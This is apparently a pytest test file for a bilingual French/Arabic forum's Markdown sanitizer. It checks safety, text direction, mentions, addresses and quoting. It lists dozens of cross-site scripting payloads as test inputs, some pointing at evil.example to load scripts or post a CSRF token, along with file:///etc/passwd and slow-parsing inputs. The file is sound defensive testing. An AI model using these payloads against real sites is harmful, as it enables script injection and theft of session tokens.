"""What members write does no harm, and reads in the direction of its own words."""

import re
import time

import html5lib
import pytest
from bs4 import BeautifulSoup
from django.test import override_settings
from django.utils.translation import override
from hypothesis import given, settings
from hypothesis import strategies as st
from wagtail.models import Site

from ess_forum import markup
from ess_forum.markup import Document, fingerprint, forum_path, quoted, render, shown

pytestmark = pytest.mark.django_db
both_languages = pytest.mark.parametrize("language", ["fr", "ar"])


@pytest.fixture(autouse=True)
def _site():
    Site.objects.update(hostname="testserver", port=80)


def soup(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")


def one_line(source: str, **options) -> str:
    """The HTML of a text of one paragraph, without the paragraph."""
    html = render(source, **options)
    return html.removeprefix('<p dir="auto">').removesuffix("</p>\n")


# Harm

SCHEMES = {"http", "https", "mailto", "forum"}


def expect_harmless(html: str) -> None:
    """Fail where HTML holds anything that is not in the list, or is not whole."""
    tree = soup(html)
    for tag in tree.find_all(True):
        assert tag.name in markup.TAGS
        allowed = markup.ATTRIBUTES["*"] | markup.ATTRIBUTES.get(tag.name, set()) | {"rel"}
        assert set(tag.attrs) <= allowed
        assert tag.get("dir", "auto") in ("auto", "ltr")
        assert set(tag.get("class", [])) <= markup.CLASSES
        for name in ("href", "src"):
            address = tag.get(name, "")
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
            assert scheme is None or scheme[1].lower() in SCHEMES, address
        if tag.name == "img":
            assert tag["src"].startswith("forum:files/")
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", html)
    # It is whole: a parser that mends what is broken finds the same, inside what it stands in.
    parsed = html5lib.parse(f"<div id=around>{html}</div>after", namespaceHTMLElements=False)
    body = parsed.find("body")
    assert [child.tag for child in body] == ["div"]
    assert body[0].tail == "after"
    assert len(list(body[0].iter())) - 1 == len(tree.find_all(True))


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<style>*{direction:rtl}</style>",
    "<p style='position:fixed' dir=rtl onclick=alert(1)>x</p>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "</div></main></body><h1>x</h1>",
    "<!-- <b> --> <![CDATA[ <script>alert(1)</script> ]]> <?php ?> <!DOCTYPE x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29)",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x](//evil.example)",
    "[x](forum:javascript:alert(1))",
    "[x](forum://evil.example/)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onmouseover=alert(1)>',
    "https://a.example/'onclick='alert(1)",
    '![x](x "onerror=alert(1)")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](https://a.example/a.png)',
    '![x" onerror="alert(1)](forum:files/a" onerror="alert(1)/)',
    "[a](https://a.example \"x' onclick='alert(1)\")",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: <data:text/html,x> 'y'\n\n[a][a] ![a]",
    "[[[a](https://a.example)](javascript:alert(1))](data:x)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick=alert(1)\nx\n```',
    "    </code></pre><script>alert(1)</script>",
    "| <script> | [x](javascript:1) |\n|---|---|\n| </td></table> | <b> |",
    "# </h3><script>alert(1)</script>",
    "> </blockquote><script>\n\n</blockquote>",
    "- </li></ul><script>",
    "@a<script> :</b>: :heart<b>:",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\u202eabc\u202c \u2066x\u2069 \u2067y",
    "&#8238;abc&#x202e;",
    "http://[::1 https://[ //[x]( [x](http://[) ![x](http://[)",
    "[x](http://a.example:99999999/) [x](https://a.example:port/)",
]


@pytest.mark.parametrize("source", VECTORS)
def test_nothing_that_is_pasted_does_harm(source):
    document = Document(source)
    html = document.html({"a": "a"})
    expect_harmless(html)
    expect_harmless(str(shown(html)).replace('src="/', 'src="forum:files/'))
    assert not soup(html).find(["script", "style", "iframe", "svg", "form", "input"])
    # Whatever else is read from it raises nothing.
    assert document.external_links is not None
    assert document.attachment_keys is not None
    assert document.quoted_posts is not None


markdown = st.lists(
    st.one_of(
        st.sampled_from(
            [
                *"*_~`[]()<>!#-|:>@&;\"'\\\n\t =+.",
                "\n\n", "    ", "> ", "- ", "1. ", "```", "|-|\n", "](", "![", "https://",
                "javascript:", "data:", "<div ", "</div>", "</p>", "<!--", "-->",
                "onclick=", "style=", "dir=rtl",
                "&#", "x202e", "&lt;", "&quot;", ":heart:", "@amina", "forum:files/",
                "/fr/forum/p/1/", "سلام", "français", "\u202e", "\u2067", "\0", "\u200f",
                "[a]: ", "http://[", "//",
            ]
        ),
        st.text(max_size=4),
    ),
    max_size=30,
).map("".join)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(markdown)
def test_no_text_does_harm(source):
    expect_harmless(Document(source).html({"amina": "amina"}))


@settings(max_examples=100, deadline=None)
@given(markdown)
def test_text_that_was_cleaned_is_clean(source):
    once = markup.cleaned(source)
    assert markup.cleaned(once) == once
    assert "\0" not in once


HOSTILE = ["[", ">", "*", "|", "`", ":", "![", "_a", "**a", "> > ", "- ", "<a", "[](", "[[a]", "@a"]


@pytest.mark.parametrize("sign", HOSTILE)
def test_hostile_text_is_shown_in_no_time(sign):
    source = sign * (20_000 // len(sign))
    start = time.process_time()
    document = Document(source)
    document.html({"a": "a"})
    assert document.external_links == []
    assert not document.quoted_posts
    fingerprint(source)
    assert time.process_time() - start < 5  # what grows by the square takes minutes


# Reading


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**a** *b* ~~c~~", "<strong>a</strong> <em>b</em> <del>c</del>"),
        ("a\nb", "a<br>\nb"),
        ("`x <b>`", '<code dir="ltr">x &lt;b&gt;</code>'),
        (":heart: :no-such-sign: `:heart:`", '❤️ :no-such-sign: <code dir="ltr">:heart:</code>'),
        ("2 < 3 & 4", "2 &lt; 3 &amp; 4"),
    ],
)
def test_markdown_becomes_html(source, html):
    assert one_line(source) == html


def test_paragraphs_have_the_direction_of_their_own_words():
    html = render("Bonjour.\n\nأهلا.\n\n# Titre\n\n- un\n- اثنان")
    blocks = soup(html).select("p, h3, li")
    assert len(blocks) == 5
    assert all(block["dir"] == "auto" for block in blocks)


def test_quote_has_the_direction_of_its_first_words():
    # HTML finds the direction of a block only in words that have none of their own around them.
    html = render("> [@amina](/fr/forum/p/1/)\n>\n> سلام\n>\n> salut")
    quote = soup(html).blockquote
    assert quote["dir"] == "auto"
    assert [line.get("dir") for line in quote.select("p")] == [None, None, "auto"]
    assert quote.a["dir"] == "auto"


def test_table_has_the_direction_of_its_head():
    table = soup(render("| 1 | سلام | b |\n|-|-|-|\n| a | ب | 2 |")).table
    assert table["dir"] == "auto"
    assert [cell.get("dir") for cell in table.select("th")] == [None, None, "auto"]
    assert [cell.get("dir") for cell in table.select("td")] == ["auto"] * 3


def test_nested_items_have_their_own_direction():
    html = render("- un\n\n  suite\n\n  - سلام\n\n    تابع\n\n- 2")
    assert [item["dir"] for item in soup(html).select("li")] == ["auto"] * 3
    assert [line.get("dir") for line in soup(html).select("p")] == [
        None,
        "auto",
        None,
        "auto",
        None,
    ]


def test_code_and_addresses_read_from_the_left():
    html = soup(render("انظروا https://a.example/x و `f(x)`\n\n```py\nf(1)\n```"))
    assert html.a["dir"] == "ltr"
    assert [code.find_parent("pre") is not None for code in html.select("code")] == [False, True]
    assert html.select_one("p code")["dir"] == html.pre["dir"] == "ltr"


# Names


def test_mentions_are_links_outside_code_and_links():
    members = {"amina": "amina", "علي": "علي"}
    html = soup(render("@Amina، @علي `@amina` [@amina](https://a.example) a@amina.dz @x", members))
    assert [link["href"] for link in html.select("a.mention")] == [
        "forum:m/amina/",
        "forum:m/%D8%B9%D9%84%D9%8A/",
    ]
    assert all(link.bdi for link in html.select("a.mention"))


def test_handles_are_those_outside_code_and_links():
    assert Document("@Amina @x `@y` [@z](https://a.example) b@c.dz").handles == {"amina", "x"}


def test_external_links_are_those_of_other_hosts():
    source = "https://a.example http://testserver/fr/ [x](/fr/y/) [z](//b.example) a@c.dz"
    assert Document(source).external_links == ["https://a.example", "//b.example"]


def test_images_of_other_hosts_become_links():
    html = soup(render("![Photo](https://a.example/a.png)"))
    assert not html.img
    assert (html.a["href"], html.a.text) == ("https://a.example/a.png", "Photo")
    inside = soup(render("[![Photo](https://a.example/a.png)](https://b.example)"))
    assert [link["href"] for link in inside.select("a")] == ["https://b.example"]


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ("m" + "\u0336\u0489" * 300 + "ot", "m" + "\u0336\u0489" * 2 + "\u0336ot"),
        ("إِنَّٱللَّهَ هُدًۭى", "إِنَّٱللَّهَ هُدًۭى"),
        ("Việt Nam, œuvre, e\u0301te\u0301", "Việt Nam, œuvre, été"),
    ],
)
def test_signs_are_not_heaped_upon_a_letter(source, kept):
    assert markup.cleaned(source) == kept


def test_signs_that_are_written_as_entities_are_not_heaped_either():
    assert one_line("m" + "&#822;" * 300) == "m" + "\u0336" * 5


def test_attached_image_is_shown():
    key = "12345678-1234-1234-1234-123456789012"
    document = Document(f"![Le port](/ar/forum/files/{key}/a.png/)")
    assert document.attachment_keys == {key}
    image = soup(document.html()).img
    assert (image["src"], image["alt"]) == (f"forum:files/{key}/a.png/", "Le port")


# Addresses


@both_languages
@pytest.mark.parametrize(
    ("address", "inside"),
    [
        ("/fr/forum/p/12/", "p/12/"),
        ("/ar/forum/p/12/?x=1#post-12", "p/12/?x=1#post-12"),
        ("http://testserver/ar/forum/t/5/%D8%A7/", "t/5/%D8%A7/"),
        ("/ar/forum/t/5/ا/", "t/5/%D8%A7/"),
        ("http://testserver:80/fr/forum/", ""),
        ("forum:p/12/", "p/12/"),
        ("FORUM:p/12/", "p/12/"),
        ("forum://a.example/", "a.example/"),
        ("/fr/forum/no/such/page/", None),
        ("/fr/forums/p/12/", None),
        ("/en/forum/p/12/", None),
        ("/forum/p/12/", None),
        ("/fr/acteurs/", None),
        ("p/12/", None),
        ("http://testserver:8000/fr/forum/p/12/", None),
        ("https://a.example/fr/forum/p/12/", None),
        ("//a.example/fr/forum/p/12/", None),
        ("http://[", None),
        ("", None),
    ],
)
def test_addresses_of_the_forum_are_known_in_each_language(language, address, inside):
    with override(language):
        assert forum_path(address) == inside


@both_languages
def test_kept_address_is_shown_in_the_language_of_the_reader(language):
    html = render('[a](/fr/forum/p/12/) [b](https://a.example/?href="forum:x)')
    with override(language):
        assert f'href="/{language}/forum/p/12/"' in shown(html)


def test_words_that_look_like_a_kept_address_stay_words():
    html = render('`href="forum:p/1/"` <a href="forum:p/1/">')
    assert shown(html) == html


@override_settings(ROOT_URLCONF="tests.forum.urls_elsewhere")
def test_forum_may_be_anywhere():
    assert forum_path("/community/talk/p/12/") == "p/12/"
    assert forum_path("/fr/forum/p/12/") is None
    assert 'href="/community/talk/p/12/"' in shown(render("[a](/community/talk/p/12/)"))


# Quotes


@both_languages
def test_quote_names_its_author_and_its_post(language):
    with override(language):
        text = quoted("Une idée\n\nسلام", "amina", 12)
    assert text == f"> [@amina](/{language}/forum/p/12/)\n>\n> Une idée\n>\n> سلام\n\n"
    document = Document(f"{text}Oui.")
    assert document.quoted_posts == {12}
    assert document.handles == set()


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("> ancien\n\nneuf", "> neuf"),
        ("neuf\n\n> [@x](/fr/forum/p/1/)\n>\n> > plus ancien\n\nfin", "> neuf\n>\n> fin"),
        ("> rien que cela", "> > rien que cela"),
        ("```\n> du code\n```", "> ```\n> > du code\n> ```"),
        ("- un\n- deux", "> - un\n> - deux"),
    ],
)
def test_quotes_within_a_quote_are_left_out(text, left):
    assert quoted(text, "a", 1).split("\n>\n", 1)[1] == f"{left}\n\n"


# Words


@pytest.mark.parametrize(
    ("source", "default", "language"),
    [
        ("Bonjour à tous", "ar", "fr"),
        ("أهلا بكم", "fr", "ar"),
        ("أهلا وسهلا بكم (ESS)", "fr", "ar"),
        ("👍 123", "fr", "fr"),
        ("👍", "ar", "ar"),
    ],
)
def test_language_is_that_of_most_letters(source, default, language):
    assert markup.language_of(source, default) == language


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("Économie !", "economie", True),
        ("الاقتصاد", "الإقتصاد", True),
        ("👍", "👎", False),
        ("👍", "👍", True),
        ("oui", "non", False),
    ],
)
def test_fingerprint_is_of_the_words(one, other, same):
    assert (fingerprint(one) == fingerprint(other)) is same
